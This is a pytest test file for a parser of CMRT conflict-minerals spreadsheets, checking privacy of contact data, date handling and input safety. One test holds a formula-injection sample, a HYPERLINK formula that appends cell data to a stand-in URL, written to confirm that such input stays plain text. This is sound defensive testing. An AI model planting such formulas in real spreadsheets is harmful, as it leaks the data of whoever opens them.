"""Reading CMRT files by cell address: with and without saved formula values, in any language, nothing personal."""

import json
from collections.abc import Mapping
from datetime import date, datetime

import pytest
from openpyxl import Workbook

from portal.declarations.check import report_on
from portal.declarations.reading.unreadable import Unreadable
from portal.declarations.rules import LineStatus
from tests.portal.declarations.workbooks import AS_OF, COMPANY, ROWS, Draft, read_here, with_part


@pytest.mark.parametrize("saved_values", [False, True])
def test_reads_everything_with_and_without_saved_values(saved_values: bool):
    reading = Draft(saved_values=saved_values).read()

    assert (reading.kind, reading.revision, reading.language) == ("CMRT", "6.5", "English")
    assert reading.company.name == COMPANY["D8"]
    assert reading.company.unique_id == "000000001"
    assert reading.scope == "A. Company"
    assert reading.effective_date == date(2026, 6, 30)
    assert len(reading.answers) == 8 * 4 + 8
    assert reading.answer("Q6", "Tin") == "100%"
    assert reading.answer("E") == "No"
    assert [row.row for row in reading.rows] == [5, 6, 7, 8, 9]


@pytest.mark.parametrize("saved_values", [False, True])
def test_what_a_formula_computes_is_not_declared(saved_values: bool):
    by_id, by_name, both, *_ = Draft(saved_values=saved_values).read().rows

    assert (by_id.cid_input, by_id.metal, by_id.lookup_name, by_id.other_id) == ("CID900001", None, None, None)
    assert (by_name.cid_input, by_name.metal, by_name.lookup_name) == (None, "Gold", "Baltic Sample Gold")
    assert by_name.country is None
    assert (both.cid_input, both.metal, both.lookup_name) == ("CID900011", "Tin", "O'Example Tin Ltd.")


def test_saved_values_change_nothing_in_the_report():
    plain, saved = (report_on(Draft(saved_values=each).read(), AS_OF).as_json() for each in (False, True))

    assert plain == saved


def test_a_formula_of_their_own_in_the_name_column_counts_as_declared():
    rows = ({"B": "==Sheet9!A1", "C": "==Sheet9!B1"},)
    data = Draft(rows=rows).to_bytes()
    data = with_part(
        data,
        "xl/worksheets/sheet2.xml",
        lambda xml: (
            xml.replace("<f>=Sheet9!A1</f><v></v>", "<f>Sheet9!A1</f><v>Gold</v>")
            .replace("<f>=Sheet9!A1</f><v />", "<f>Sheet9!A1</f><v>Gold</v>")
            .replace("<f>=Sheet9!B1</f><v></v>", "<f>Sheet9!B1</f><v>Baltic Sample Gold</v>")
            .replace("<f>=Sheet9!B1</f><v />", "<f>Sheet9!B1</f><v>Baltic Sample Gold</v>")
            .replace('<c r="B5">', '<c r="B5" t="str">')
            .replace('<c r="C5">', '<c r="C5" t="str">')
        ),
    )

    (row,) = read_here(data).rows

    assert (row.metal, row.lookup_name) == ("Gold", "Baltic Sample Gold")


def test_contact_persons_of_smelters_do_not_leave_the_reading():
    rows = ({"A": "CID900001", "K": "Secret Person", "L": "secret.person@example.org", "M": "Call Secret Person"},)
    wire = json.dumps(Draft(rows=rows).read().to_wire(), ensure_ascii=False)

    for word in ("Secret", "secret"):
        assert word not in wire


def test_contact_persons_of_the_company_are_in_no_report_unless_asked_for():
    report = report_on(Draft().read(), AS_OF)
    kept = json.dumps(report.as_json(), ensure_ascii=False) + repr(report)

    for word in ("Ola Eksempel", "ola.eksempel", "Kari", "kari.eksempel", "+00 000", "Manager"):
        assert word not in kept
    assert report.as_json(contact=True)["company"]["contact_name"] == "Ola Eksempel"


def test_contact_fields_are_reported_as_filled_or_not():
    company = Draft(cells={"D16": "n/a", "D20": None, "D21": "+00"}).read().company

    assert company.filled["contact_name"] is True
    assert company.filled["contact_email"] is True
    assert company.email_ok["contact_email"] is False
    assert company.filled["authorizer_email"] is False


def test_the_number_one_is_a_hundred_percent():
    reading = Draft(cells={"J3": "Revision 6.22\nMay 2022", "D56": 1, "D57": 1.0}).read()

    assert reading.answer("Q6", "Tantalum") == "100%"
    assert reading.answer("Q6", "Tin") == "100%"


def test_labels_and_language_change_nothing():
    cells = {"D3": "中文 Chinese", "B8": "公司名称 (*)", "B26": "钽 (*)", "D25": "回答", "B29": "Gold"}
    reading = Draft(cells=cells).read()

    assert reading.language == "中文 Chinese"
    assert reading.answer("Q1", "Tungsten") == "Yes"
    assert reading.company.name == COMPANY["D8"]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (datetime(2025, 5, 6, 0, 0), date(2025, 5, 6)),
        ("2025-05-06", date(2025, 5, 6)),
        ("06-May-2025", date(2025, 5, 6)),
        ("6 May 2025", date(2025, 5, 6)),
        ("05/06/2025", None),  # two days are possible
        ("soon", None),
        (None, None),
        (45783, date(2025, 5, 6)),
    ],
)
def test_effective_dates(value: object, expected: date | None):
    reading = Draft(cells={"D22": value}).read()

    assert reading.effective_date == expected
    assert reading.effective_date_text == (value if value and not expected else None)


def test_a_number_that_cannot_be_held_is_no_day():
    assert Draft(cells={"D22": 1.7976931348623155e308}).read().effective_date is None


def test_texts_that_look_like_formulas_stay_texts():
    hostile = '=HYPERLINK("http://example.com/?"&A1,"x")'
    rows = ({"B": "Gold", "C": "Smelter not listed", "D": "=1+1", "E": "NORWAY"},)
    reading = Draft(cells={"D8": hostile, "D14": "\t=1+1", "G26": "@SUM(1)"}, rows=rows).read()

    assert reading.company.name == hostile
    assert reading.company.address == "\t=1+1"
    assert reading.answers[0].comment == "@SUM(1)"
    assert reading.rows[0].name == "=1+1"


def test_control_and_direction_characters_are_left_out():
    reading = Draft(cells={"D8": "Prøve\u202eSA elbaK\u2066", "D14": "a\nb\tc"}).read()

    assert reading.company.name == "PrøveSA elbaK"
    assert reading.company.address == "a\nb\tc"


def test_product_numbers_keep_their_zeros():
    products = ({"B": "0042", "C": "Harness"}, {"B": 7500, "D": "number"}, {"B": "7.50E+02"})
    reading = Draft(products=products).read()

    assert [product.number for product in reading.products] == ["0042", "7500", "7.50E+02"]
    assert [product.row for product in reading.products] == [6, 7, 8]


def test_a_cell_longer_than_a_spreadsheet_can_hold_is_refused():
    data = with_part(
        Draft().to_bytes(),
        "xl/worksheets/sheet1.xml",
        lambda xml: xml.replace('<c r="D8"', f'<c r="D10" t="inlineStr"><is><t>{"a" * 40000}</t></is></c><c r="D8"'),
    )
    with pytest.raises(Unreadable) as refused:
        read_here(data)

    assert refused.value.code == "cell_too_long"
    assert refused.value.place == "Declaration!D10"


def test_rows_below_the_template_are_read_and_reported():
    def far_down(book: Workbook) -> None:
        book["Smelter List"]["A2600"] = "CID900002"

    report = report_on(Draft(change=far_down).read(), AS_OF)

    assert report.lines[-1].row == 2600
    assert report.lines[-1].status is LineStatus.RESOLVED
    assert "rows_beyond_template" in {f.code for f in report.findings}


def test_a_workbook_linked_to_others_is_read_with_a_notice():
    link = "<externalLink xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main'/>"
    data = with_part(Draft().to_bytes(), "xl/externalLinks/externalLink1.xml", lambda _: link)

    assert [notice.code for notice in read_here(data).notices if notice.code == "external_links"]


def test_rows_keep_their_order_and_numbers_with_gaps():
    rows: list[Mapping[str, str]] = [ROWS[0], {}, {"Q": "only a comment"}, ROWS[1]]

    assert [row.row for row in Draft(rows=rows).read().rows] == [5, 8]
